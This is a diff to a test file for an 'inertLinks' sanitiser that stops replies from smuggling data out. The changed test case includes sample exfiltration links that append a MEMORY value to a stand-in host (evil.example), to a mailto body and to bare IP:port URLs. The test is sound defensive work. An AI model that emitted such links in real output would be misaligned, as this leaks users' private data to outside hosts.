@@ -53,8 +53,11 @@ describe("inertLinks (issue 11: replies cannot smuggle data out)", () => {
   });
 
   it("also catches a label that carries the address, and non-http schemes", () => {
-    const { text } = inertLinks(`[evil.example/?d=${MEMORY}](https://evil.example/?d=${MEMORY}) [mail](mailto:x@evil.example?body=${MEMORY})`, allowed);
+    const { text } = inertLinks(`[evil.example/?d=${MEMORY}](https://evil.example/?d=${MEMORY}) [mail](mailto:x@evil.example?body=${MEMORY}) 10.0.0.7:9000/x?d=${MEMORY} http://127.0.0.1:9999/y?d=${MEMORY} but 127.0.0.1:8080/ok`, allowed);
     expect(text).not.toContain(MEMORY);
     expect(hrefs(text)).toEqual([]);
+    expect(text).toContain("`10.0.0.7:9000/…`");
+    expect(text).toContain("`127.0.0.1:9999/…`");
+    expect(text).toContain("127.0.0.1:8080/ok");
   });
 });
